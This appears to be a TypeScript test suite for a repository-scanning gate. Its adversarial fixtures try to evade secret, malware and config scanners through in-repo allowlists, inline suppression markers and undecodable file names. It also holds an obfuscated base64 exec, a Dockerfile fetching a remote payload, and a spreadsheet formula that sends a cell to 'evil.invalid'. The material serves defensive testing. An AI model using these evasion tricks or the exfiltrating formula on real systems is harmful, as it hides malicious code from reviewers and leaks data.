/**
 * Gate integrity (issue #11): a scanned repository cannot silence, blind or
 * subvert its scanners, and what the pipeline writes carries no credentials
 * and no spreadsheet formulas. One adversarial fixture per class, built at
 * test time (a real git repository), through the real scan + decide stages
 * with the real scanners (offline), each asserting the request is refused or
 * `error`. Only the scanners a class concerns run, so that each assertion
 * pins its own defence (the corpus tests run all of them together).
 *
 * Classes: 1 in-repo scanner configuration, 2 inline suppressions, 3 silent
 * coverage gaps, 6 fail-open paths of checkov and guarddog, 7 category lost,
 * 9 what the pipeline writes; plus an undecodable file name (blinds
 * GuardDog) and a `.gitignore` that hides manifests from osv-scanner.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { before, describe, it } from 'node:test';
import Papa from 'papaparse';
import { appendRows, parseResults, RESULT_COLUMNS } from '../../../src/common';
import { SilentProgress } from '../src/progress';
import type { IPolicyFinding } from '../src/policy';
import { redact } from '../src/redact';
import { renderMarkdown } from '../src/report';
import { runOnce } from '../src/runner';
import { findExecutable } from '../src/scanners/run';
import { decide } from '../src/stages/decide';
import { scan } from '../src/stages/scan';
import type { IManifestItem } from '../src/types';
import { defaultConfig, IWorkspaceConfig } from '../src/workspace';
import {
  addRequests,
  collector,
  fakeScanners,
  gitSync,
  makeWorkspace,
  requestRow,
  results,
  tempDir,
  useVenvScanners
} from './helpers';

/** A fake AWS key id made at run time (AKIA + 16), never a real one. */
const AWS_KEY = `AKIA${'Q7XNLR4M2HKZ5P3W'}`;
/** Module-level decoded exec: RepoGuard's malware rule `obfuscated-exec` (high). */
const OBFUSCATED = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
/** A Dockerfile that passes every checkov check except CKV_DOCKER_4 (ADD of a URL: high). */
const DOCKERFILE = [
  'FROM python:3.12-slim',
  'RUN useradd --create-home app',
  'HEALTHCHECK CMD python -c "print(1)"',
  'ADD http://downloads.invalid/payload.sh /opt/payload.sh',
  'USER app',
  ''
].join('\n');

const ROOT = path.resolve(__dirname, '..', '..', '..', '..', '..');

/** A git repository with `files` (one commit), as the hardened clone leaves it. */
async function fixture(files: Record<string, string | Buffer>): Promise<string> {
  const dir = path.join(await tempDir('rg-integrity-'), 'src');
  await mkdir(dir, { recursive: true });
  for (const [name, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
    await writeFile(path.join(dir, name), content);
  }
  gitSync(dir, 'init', '--quiet', '-b', 'main');
  gitSync(dir, 'add', '-A');
  gitSync(dir, 'commit', '--quiet', '-m', 'fixture');
  return dir;
}

/** The real scan + decide stages on `source` (a folder named `src` in its workspace). */
async function scanAndDecide(
  source: string,
  scanners: string[],
  config: Partial<IWorkspaceConfig> = {}
): Promise<IManifestItem> {
  const dir = path.dirname(source);
  const item: IManifestItem = {
    request: requestRow({ request_id: 'r-integrity', package_name: 'fixture' }),
    row: 2,
    key: 'r-integrity',
    commitSha: gitSync(source, 'rev-parse', 'HEAD').trim(),
    source: 'src'
  } as IManifestItem;
  const ctx = {
    manifest: {
      version: 1,
      mode: 'local',
      executionId: 'integrity',
      createdAt: new Date().toISOString(),
      ledgerSha: '',
      items: [item]
    },
    dir,
    config: { ...defaultConfig(dir), scanners, scanTimeoutSeconds: 180, ...config },
    progress: new SilentProgress('integrity')
  } as unknown as Parameters<typeof scan>[0];
  await scan(ctx);
  await decide(ctx, { waivers: '' });
  return item;
}

function findings(item: IManifestItem): IPolicyFinding[] {
  return (item.scanners ?? []).flatMap(s => s.findings) as IPolicyFinding[];
}

function refusedAt(item: IManifestItem, gate: string): void {
  assert.equal(item.decision, 'refused', `${item.decision}: ${item.reason ?? ''}`);
  assert.match(item.reason ?? '', new RegExp(`${gate} gate`));
}

/** Run `work` once, on first use (fixtures shared by the classes, to keep the file under 2 minutes). */
function once<T>(work: () => Promise<T>): () => Promise<T> {
  let result: Promise<T> | undefined;
  return () => (result ??= work());
}

/**
 * One semgrep run for classes 2, 3 and 7 (semgrep starts slowly): each path
 * holds what one defence must keep visible, and each test asserts its own
 * path, so each fails when its defence is removed.
 */
const SEMGREP_FILES = {
  'setup.py': 'from setuptools import setup\nsetup(name="pkg", packages=["pkg"])\n',
  // class 2: `# nosemgrep` (semgrep --disable-nosem; the marker is reported)
  'pkg/hidden.py': OBFUSCATED.replace('))\n', '))  # nosemgrep\n'),
  // class 3: semgrep's built-in ignore list (--x-ignore-semgrepignore-files)
  'vendor/six_patch.py': OBFUSCATED,
  'build/lib/pkg/hook.py': OBFUSCATED,
  'node_modules/x/hook.py': OBFUSCATED,
  // class 3: over semgrep's default 1 MB (explicit --max-target-bytes 10 MB)
  'pkg/big.py': OBFUSCATED + '# padding\n'.repeat(180_000),
  // class 3: over the explicit limit: a finding, listed in the report
  'pkg/tables.py': 'X = 1\n' + 'Y = 2  # filler line\n'.repeat(530_000),
  // class 7: a malware rule in not-installed code (SAST -2, malicious -1)
  'tests/helpers.py': OBFUSCATED
};
const semgrepItem = once(async () => scanAndDecide(await fixture(SEMGREP_FILES), ['semgrep']));

/** One checkov run for classes 1 and 2. */
/** A checkov check in the source: if checkov imports it, every Dockerfile fails CKV_EVIL_1. */
const EVIL_CHECK = [
  'from checkov.common.models.enums import CheckCategories, CheckResult',
  'from checkov.dockerfile.base_dockerfile_check import BaseDockerfileCheck',
  '',
  'class Evil(BaseDockerfileCheck):',
  '    def __init__(self):',
  '        super().__init__(name="imported from the source", id="CKV_EVIL_1",',
  '                         categories=[CheckCategories.GENERAL_SECURITY], supported_instructions=["FROM"])',
  '',
  '    def scan_resource_conf(self, conf):',
  '        return CheckResult.FAILED, conf[0]',
  '',
  'check = Evil()',
  ''
].join('\n');
const checkovSource = once(() =>
  fixture({
    // class 1: skip-check and external-checks-dir (the check leaves a mark if imported)
    Dockerfile: DOCKERFILE,
    '.checkov.yaml': 'skip-check:\n  - CKV_DOCKER_4\nexternal-checks-dir:\n  - checks\n',
    'ci/.checkov.yml': 'skip-check:\n  - CKV_DOCKER_4\n',
    'checks/__init__.py': '',
    'checks/evil_check.py': EVIL_CHECK,
    // class 2: an inline skip of the same check
    'docker/Dockerfile': DOCKERFILE.replace(
      'ADD http',
      '# checkov:skip=CKV_DOCKER_4: reviewed\nADD http'
    )
  })
);
const checkovItem = once(async () => scanAndDecide(await checkovSource(), ['checkov']));

describe('gate integrity: the scanned source cannot configure, silence or blind its scanners', () => {
  before(async () => {
    useVenvScanners();
    for (const bin of ['semgrep', 'gitleaks', 'osv-scanner', 'checkov', 'guarddog']) {
      assert.ok(
        await findExecutable(bin),
        `${bin} must be installed (scripts/install-scanners.sh)`
      );
    }
  });

  describe('class 1: scanner configuration shipped in the source has no effect', () => {
    it('gitleaks: a .gitleaks.toml allowing every path', async () => {
      const src = await fixture({
        'settings.py': `"""Settings."""\nAWS_ACCESS_KEY_ID = "${AWS_KEY}"\n`,
        '.gitleaks.toml': "[extend]\nuseDefault = true\n[allowlist]\npaths = ['''.*''']\n"
      });
      const item = await scanAndDecide(src, ['gitleaks']);
      refusedAt(item, 'secret');
      assert.ok(findings(item).some(f => f.ruleId === 'aws-access-token'));
      const controls = findings(item).filter(f => f.ruleId === 'repoguard.scanner-control-file');
      assert.deepEqual(
        controls.map(f => f.path),
        ['.gitleaks.toml']
      );
      const run = item.scanners!.find(s => s.name === 'gitleaks')!;
      assert.ok(
        run.config?.some(c => c.name === 'gitleaks.toml' && /^[0-9a-f]{64}$/.test(c.sha256))
      );
    });

    it('gitleaks: a .gitleaksignore listing the leak (gitleaks always reads <tree>/.gitleaksignore)', async () => {
      const src = await fixture({
        'settings.py': `"""Settings."""\nAWS_ACCESS_KEY_ID = "${AWS_KEY}"\n`
      });
      // The strongest case: the attacker knows the scan path, so the fingerprint matches.
      await writeFile(path.join(src, '.gitleaksignore'), `${src}/settings.py:aws-access-token:2\n`);
      gitSync(src, 'add', '-A');
      gitSync(src, 'commit', '--quiet', '-m', 'ignore it');
      const item = await scanAndDecide(src, ['gitleaks']);
      refusedAt(item, 'secret');
      assert.ok(findings(item).some(f => f.ruleId === 'aws-access-token'));
      assert.ok(
        findings(item).some(
          f => f.ruleId === 'repoguard.scanner-control-file' && f.path === '.gitleaksignore'
        )
      );
    });

    it('osv-scanner: an osv-scanner.toml ignoring the vulnerable package', async () => {
      const src = await fixture({
        'requirements.txt': 'requests==2.19.0\n',
        'osv-scanner.toml':
          '[[PackageOverrides]]\nname = "requests"\necosystem = "PyPI"\nignore = true\nreason = "trust me"\n\n[[IgnoredVulns]]\nid = "GHSA-x84v-xcm2-53pg"\n'
      });
      const item = await scanAndDecide(src, ['osv']);
      refusedAt(item, 'vulnerability');
      assert.ok(findings(item).some(f => f.scanner === 'osv' && f.path === 'requirements.txt'));
    });

    it('osv-scanner: a .gitignore hiding the committed requirements file', async () => {
      const src = await fixture({
        'deps/requirements.txt': 'requests==2.19.0\n',
        '.gitignore': 'deps/\n'
      });
      gitSync(src, 'add', '-f', 'deps/requirements.txt');
      gitSync(src, 'commit', '--quiet', '-m', 'tracked although ignored');
      const item = await scanAndDecide(src, ['osv']);
      refusedAt(item, 'vulnerability');
    });

    it('checkov: .checkov.yaml skip-check and external-checks-dir (Python that checkov would import)', async () => {
      const item = await checkovItem();
      refusedAt(item, 'config');
      assert.ok(findings(item).some(f => f.ruleId === 'CKV_DOCKER_4' && f.path === 'Dockerfile'));
      assert.ok(
        !findings(item).some(f => f.ruleId === 'CKV_EVIL_1'),
        "checkov imported the source's external checks"
      );
    });
  });

  describe('class 2: inline suppressions are evidence, never waivers', () => {
    it('gitleaks:allow on the leaked key', async () => {
      const src = await fixture({
        'client.py': `KEY = "${AWS_KEY}"  # gitleaks:allow\n`
      });
      const item = await scanAndDecide(src, ['gitleaks']);
      refusedAt(item, 'secret');
      assert.ok(
        findings(item).some(
          f => f.ruleId === 'repoguard.suppression-marker' && f.path === 'client.py' && f.line === 1
        )
      );
      // The report's snippet of the secret stays masked.
      for (const f of findings(item)) assert.doesNotMatch(f.snippet ?? '', new RegExp(AWS_KEY));
    });

    it('checkov:skip on the remote ADD (checkov cannot ignore it: its result is counted)', async () => {
      const item = await checkovItem();
      refusedAt(item, 'config');
      const add = findings(item).find(
        f => f.ruleId === 'CKV_DOCKER_4' && f.path === 'docker/Dockerfile'
      );
      assert.match(add?.message ?? '', /counted/);
      assert.ok(
        findings(item).some(
          f => f.ruleId === 'repoguard.suppression-marker' && f.path === 'docker/Dockerfile'
        )
      );
    });

    it('# nosemgrep on the decoded exec', async () => {
      const item = await semgrepItem();
      refusedAt(item, 'malicious');
      assert.ok(
        findings(item).some(f => f.path === 'pkg/hidden.py' && /obfuscated-exec$/.test(f.ruleId))
      );
      assert.ok(
        findings(item).some(
          f => f.ruleId === 'repoguard.suppression-marker' && f.path === 'pkg/hidden.py'
        )
      );
    });
  });

  describe('class 3: no silent coverage gaps', () => {
    it('semgrep scans vendor/, build/ and node_modules/ (its built-in ignore list is off)', async () => {
      const item = await semgrepItem();
      refusedAt(item, 'malicious');
      for (const w of ['vendor/six_patch.py', 'build/lib/pkg/hook.py', 'node_modules/x/hook.py']) {
        assert.ok(
          findings(item).some(f => f.path === w && /obfuscated-exec$/.test(f.ruleId)),
          w
        );
      }
    });

    it('semgrep scans a 1.8 MB file, and a file over its explicit limit is a finding listed in the report', async () => {
      const item = await semgrepItem();
      refusedAt(item, 'malicious');
      assert.ok(
        findings(item).some(f => f.path === 'pkg/big.py' && /obfuscated-exec$/.test(f.ruleId))
      );
      const skipped = findings(item).filter(f => f.ruleId === 'repoguard.not-scanned');
      assert.deepEqual(
        skipped.map(f => [f.path, f.severity]),
        [['pkg/tables.py', 'medium']]
      );
      const run = item.scanners!.find(s => s.name === 'semgrep')!;
      assert.deepEqual(
        run.notScanned?.map(n => n.path),
        ['pkg/tables.py']
      );
      assert.ok(run.config?.some(c => c.name === 'semgrep argv'));
      const md = renderMarkdown(item, 'integrity');
      assert.match(md, /## Scanner configuration and coverage/);
      assert.match(
        md,
        /did not scan 1 file\(s\):\n\s+- `pkg\/tables.py`: larger than 10000000 bytes/
      );
    });
  });

  describe('class 6: checkov and guarddog fail closed', () => {
    it('stand-in checkov: exit 0 without a SARIF log is an error, not a clean run', async () => {
      // checkov 3.3.30 does exactly this (a traceback, no log, exit 0 under
      // --soft-fail) when its log cannot be written, e.g. when the path is a
      // folder; each scanner's output folder is private now, so a stand-in
      // (helpers.fakeScanners `nosarif`) plays that checkov.
      const bin = await fakeScanners({ checkov: 'nosarif' });
      const src = await fixture({ Dockerfile: DOCKERFILE });
      const item = await scanAndDecide(src, ['checkov'], { scannerBinDir: bin });
      assert.equal(item.decision, 'error', item.reason);
      assert.match(item.reason ?? '', /checkov.*wrote no readable SARIF/);
    });

    it('guarddog: one file name that is not UTF-8 fails its YARA rules: error, never clean', async () => {
      const src = await fixture({
        'setup.py': 'from setuptools import setup\nsetup(name="pkg", packages=["pkg"])\n',
        'pkg/__init__.py': '"""A package."""\n'
      });
      await writeFile(
        Buffer.concat([Buffer.from(`${src}/pkg/`), Buffer.from([0xff, 0xfe]), Buffer.from('.py')]),
        'X = 1\n'
      );
      const item = await scanAndDecide(src, ['guarddog']);
      assert.equal(item.decision, 'error', item.reason);
      assert.match(item.reason ?? '', /guarddog.*rule\(s\) failed/);
    });

    it('the undecodable name itself is a finding of the malicious gate', async () => {
      const src = await fixture({ 'pkg/__init__.py': '"""A package."""\n' });
      await writeFile(
        Buffer.concat([Buffer.from(`${src}/pkg/`), Buffer.from([0xc3, 0x28]), Buffer.from('.py')]),
        'X = 1\n'
      );
      const item = await scanAndDecide(src, ['gitleaks']);
      refusedAt(item, 'malicious');
      assert.ok(findings(item).some(f => f.ruleId === 'repoguard.undecodable-name'));
    });
  });

  describe('class 7: a finding keeps its own category', () => {
    it("RepoGuard's malware rule in tests/ is judged at the malicious gate, not SAST with its downgrades", async () => {
      const item = await semgrepItem();
      refusedAt(item, 'malicious');
      const f = findings(item).find(
        x => x.path === 'tests/helpers.py' && /obfuscated-exec$/.test(x.ruleId)
      )!;
      assert.equal(f.category, 'malicious');
      assert.equal(f.gate, 'malicious');
      assert.notEqual(f.effectiveSeverity, 'info');
      assert.ok(['critical', 'high', 'medium'].includes(f.effectiveSeverity), f.effectiveSeverity);
    });
  });
});

describe('class 9: what the pipeline writes', () => {
  const TOKEN = `ghp_${'A1b2C3d4E5f6G7h8I9j0'}${'K1l2M3n4O5p6'}`;
  const FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")';
  let ws: Awaited<ReturnType<typeof makeWorkspace>>;
  const out = collector();

  before(async () => {
    useVenvScanners();
    ws = await makeWorkspace({ scanners: ['semgrep'] });
    await addRequests(ws, [
      requestRow({
        request_id: 'r-creds',
        package_name: 'leaky',
        repo_url: `https://x-access-token:${TOKEN}@github.com/o/leaky`
      }),
      requestRow({
        request_id: 'r-formula',
        package_name: 'formula',
        repo_url: 'https://github.com/o/formula',
        ref: FORMULA
      })
    ]);
    await runOnce({ mode: 'local', workspace: ws.root, write: out.write });
  });

  it('a credential in a request URL reaches no results row, report, SARIF, mail or log line', async () => {
    const rows = await results(ws);
    const row = rows.find(r => r.request_id === 'r-creds')!;
    assert.notEqual(row.decision, 'approved');
    assert.equal(row.repo_url, 'https://***@github.com/o/leaky');
    const written: string[] = [
      execFileSync(
        'git',
        ['--git-dir', ws.requestRepo, 'show', 'HEAD:external-package-results.csv'],
        { encoding: 'utf8' }
      )
    ];
    const reports = path.join(ws.root, 'reports');
    for (const dir of await readdir(reports)) {
      for (const f of await readdir(path.join(reports, dir))) {
        written.push(await readFile(path.join(reports, dir, f), 'utf8'));
      }
    }
    for (const f of existsSync(ws.outboxDir) ? await readdir(ws.outboxDir) : []) {
      written.push(await readFile(path.join(ws.outboxDir, f), 'utf8'));
    }
    written.push(out.lines.join('\n'));
    assert.ok(written.length >= 4);
    for (const text of written) {
      assert.ok(!text.includes(TOKEN), text.slice(0, 200));
      assert.ok(!text.includes(TOKEN.slice(0, 20)));
    }
  });

  it('known token shapes and private keys are masked wherever they appear', () => {
    // Made at run time from parts: none is a real credential.
    const x = (n: number) => 'Ab1'.repeat(Math.ceil(n / 3)).slice(0, n);
    const tokens = [
      `ghp_${x(36)}`,
      `github_pat_${x(22)}_${x(59)}`,
      `AKIA${'Q7XNLR4M2HKZ5P3W'}`,
      `xoxb-${'1234567890'}-${x(24)}`,
      `glpat-${x(20)}`,
      `npm_${x(36)}`,
      `pypi-AgEIcHlwaS5vcmc${x(60)}`,
      `AIza${x(35)}`,
      `sk-proj-${x(40)}`,
      `eyJ${x(20)}.eyJ${x(20)}.${x(30)}`
    ];
    for (const t of tokens) {
      const out = redact(`install failed: ${t} rejected`);
      assert.ok(!out.includes(t.slice(6, 20)), out);
      assert.match(out, /install failed: \*\*\* rejected/);
    }
    const pem = [
      '-----BEGIN OPENSSH PRIVATE KEY-----',
      x(64),
      x(64),
      '-----END OPENSSH PRIVATE KEY-----'
    ];
    assert.doesNotMatch(redact(pem.join('\n')), new RegExp(x(64)));
    // Inside JSON (the SARIF copy) the masking keeps the document valid.
    const json = JSON.stringify({ message: pem.join('\n'), uri: `https://u:${tokens[0]}@h/x` });
    assert.doesNotThrow(() => JSON.parse(redact(json)));
    assert.doesNotMatch(redact(json), new RegExp(x(64)));
  });

  it('a cell a spreadsheet would evaluate is written escaped and reads back as it was', async () => {
    const csv = execFileSync(
      'git',
      ['--git-dir', ws.requestRepo, 'show', 'HEAD:external-package-results.csv'],
      { encoding: 'utf8' }
    );
    const line = csv.split('\n').find(l => l.startsWith('r-formula,'))!;
    assert.ok(line.includes(`"'=HYPERLINK(`), line);
    const row = parseResults(csv).rows.find(r => r.values.request_id === 'r-formula')!;
    assert.equal(row.values.ref, FORMULA);
  });

  it("the Python appender escapes the same way, and each side reads the other's file", () => {
    const python = path.join(ROOT, '.venv', 'bin', 'python');
    const values = [
      FORMULA,
      '+1',
      '-x',
      '@SUM(A1)',
      '\tx',
      "'=quoted",
      "''+two",
      'plain',
      "'plain"
    ];
    const rows = values.map((v, i) => ({ request_id: `p${i}`, reason: v }));
    const fromTs = appendRows('', RESULT_COLUMNS, rows);
    const script = [
      'import json, sys',
      'from repoguard import ledger',
      'data = json.load(sys.stdin)',
      'cols = ledger.result_columns()',
      'read = [r["reason"] for _, r in ledger.parse_results(data["ts"]).rows]',
      'written = ledger.append_rows("", cols, data["rows"])',
      'print(json.dumps({"read": read, "written": written}))'
    ].join('\n');
    const res = JSON.parse(
      execFileSync(python, ['-c', script], {
        cwd: ROOT,
        input: JSON.stringify({ ts: fromTs, rows }),
        encoding: 'utf8'
      })
    ) as { read: string[]; written: string };
    assert.deepEqual(res.read, values, 'Python reads what TypeScript wrote');
    assert.deepEqual(
      parseResults(res.written).rows.map(r => r.values.reason),
      values,
      'TypeScript reads what Python wrote'
    );
    // As a spreadsheet sees the cells (no unescaping): none starts a formula.
    const reasonAt = RESULT_COLUMNS.indexOf('reason' as (typeof RESULT_COLUMNS)[number]);
    for (const text of [fromTs, res.written]) {
      for (const cells of Papa.parse<string[]>(text, { skipEmptyLines: true }).data.slice(1)) {
        assert.doesNotMatch(cells[reasonAt], /^[=+\-@\t\r]/, cells[reasonAt]);
      }
    }
  });
});
